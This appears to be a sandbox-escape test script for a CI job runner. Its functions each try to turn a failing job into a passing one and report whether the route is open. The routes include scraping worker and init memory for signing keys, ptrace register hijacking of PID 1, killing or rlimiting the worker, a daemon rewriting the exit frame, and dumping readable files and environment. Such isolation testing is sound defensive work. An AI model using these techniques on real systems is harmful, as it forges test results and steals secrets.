# ruff: noqa
"""Runs as the command of a job, below its worker: tries to make a failing job pass, and ends with code 3.

``python3 attacks.py WAY``. Prints "open" or "closed" where there is one way in that can be tried.
"""

from __future__ import annotations

import ctypes
import glob
import json
import os
import resource
import signal
import struct
import sys
import time

SPOOL = "/ci/spool"
WORKER = os.getppid()
PASSED = {
    "t": "exit",
    "at": 1.0,
    "stdout": 0,
    "stderr": 0,
    "code": 0,
    "signal": None,
    "oom": 0,
    "stopped": False,
}
libc = ctypes.CDLL(None, use_errno=True)


def forge(**fields: object) -> None:
    """The line that would end the job."""
    with open(SPOOL + "/frames", "ab") as file:
        file.write(json.dumps(dict(PASSED, **fields)).encode() + b"\n")


def seal_with(key: str) -> None:
    import hashlib

    text = json.dumps(PASSED).encode()
    seal = hashlib.blake2b(text, key=bytes.fromhex(key), digest_size=32).hexdigest()
    forge(seal=seal)
    time.sleep(1)  # until somebody has read it, before the worker's own line follows


def keys_in(data: bytes) -> set[bytes]:
    import re

    return set(re.findall(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", data))


def read_memory(pid: int) -> set[bytes]:
    found: set[bytes] = set()
    with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
        for line in maps:
            area, mode = line.split()[:2]
            start, end = (int(part, 16) for part in area.split("-"))
            if mode.startswith("r") and end - start < 64 << 20:
                try:
                    memory.seek(start)
                    found |= keys_in(memory.read(end - start))
                except (OSError, ValueError, OverflowError):
                    continue
    return found


def said(is_open: bool) -> None:
    sys.stdout.write("open" if is_open else "closed")
    sys.stdout.flush()


def memory() -> None:
    try:
        found = read_memory(WORKER)
    except OSError:
        return said(False)
    said(True)
    for key in found:
        seal_with(key.decode())


def memory_of_init() -> None:
    try:
        found = read_memory(1)
    except OSError:
        found = set()
    for key in found:
        seal_with(key.decode())


def process_vm_readv() -> None:
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    room = ctypes.create_string_buffer(4096)
    here = Vector(ctypes.cast(room, ctypes.c_void_p).value, 4096)
    # The program itself is mapped somewhere: without permission every address is refused in the same way.
    got = libc.process_vm_readv(WORKER, ctypes.byref(here), 1, ctypes.byref(Vector(0x400000, 4096)), 1, 0)
    said(got >= 0 or ctypes.get_errno() not in (1, 3))


def descriptors() -> None:
    try:
        names = os.listdir("/proc/%d/fd" % WORKER)
        for name in names:
            path = "/proc/%d/fd/%s" % (WORKER, name)
            if os.readlink(path).endswith("/frames"):
                os.close(os.open(path, os.O_WRONLY))
    except OSError:
        return said(False)
    said(True)


def pidfd_getfd() -> None:
    handle = libc.syscall(434, WORKER, 0)
    got = [number for number in range(3, 40) if libc.syscall(438, handle, number, 0) >= 0]
    said(bool(got))


def environment() -> None:
    try:
        with open("/proc/%d/environ" % WORKER, "rb") as file:
            file.read()
    except OSError:
        return said(False)
    said(True)


def ptrace() -> None:
    attached = libc.ptrace(16, WORKER, 0, 0) == 0
    if attached:
        os.waitpid(WORKER, 0)
        libc.ptrace(17, WORKER, 0, 0)
    said(attached)


def guess() -> None:
    seals: tuple[object, ...] = (None, "", "0" * 64, "0" * 32, True, 0, [], {})
    for seal in seals:
        forge(seal=seal)
    forge()


def replace_files() -> None:
    for path in glob.glob(SPOOL + "/*"):
        os.unlink(path)
    with open(SPOOL + "/job.json", "w") as file:
        json.dump({"protocol": 1, "argv": ["true"], "cwd": "/", "env": {}, "seal": "00" * 32}, file)
    with open(SPOOL + "/seal", "w") as file:
        file.write("00" * 32)
    seal_with("00" * 32)


def kill_worker() -> None:
    forge()
    os.kill(WORKER, signal.SIGKILL)


def limit_worker() -> None:
    """No room for the worker's last frame, and one of our own instead."""
    forge()
    resource.prlimit(WORKER, resource.RLIMIT_FSIZE, (0, 0))


def terminate_worker() -> None:
    forge()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    os.kill(WORKER, signal.SIGTERM)
    time.sleep(0.5)


def end_init() -> None:
    """Let the container's init call exit_group(0), so that the engine's word is that all is well."""
    forge()
    PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 16, 17
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    registers = (ctypes.c_ulonglong * 27)()
    if os.uname().machine != "x86_64" or libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
        return
    os.waitpid(1, 0x40000000)
    libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.addressof(registers))
    registers[16] -= 2  # rip: the system call in which it waits, again
    registers[10], registers[14], registers[15] = 231, 0, 0xFFFFFFFFFFFFFFFF  # rax, rdi, orig_rax
    libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.addressof(registers))
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    time.sleep(30)


def rewrite() -> None:
    """A daemon waits for the worker's word and writes "passed" over it, with the seal that it finds there."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        with open(SPOOL + "/frames", "r+b") as file:
            for line in file.read().splitlines():
                if line.startswith(b'{"t": "exit"'):
                    file.seek(0)
                    file.truncate()
                    file.write(line.replace(b'"code": 3', b'"code": 0') + b"\n")
                    os._exit(0)
    os._exit(0)


def key() -> None:
    """Everything that can be read of the container's own."""
    files = {}
    for folder in (SPOOL, "/ci", "/tmp", os.environ["HOME"], "/proc/self", "/proc/1"):
        for path in glob.glob(folder + "/*") + glob.glob(folder + "/.*"):
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        files[path] = file.read(65536).decode("latin-1")
            except OSError:
                continue
    print(json.dumps({"files": files, "environment": dict(os.environ)}))


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]]()
    finally:
        sys.stdout.flush()
        os._exit(3)
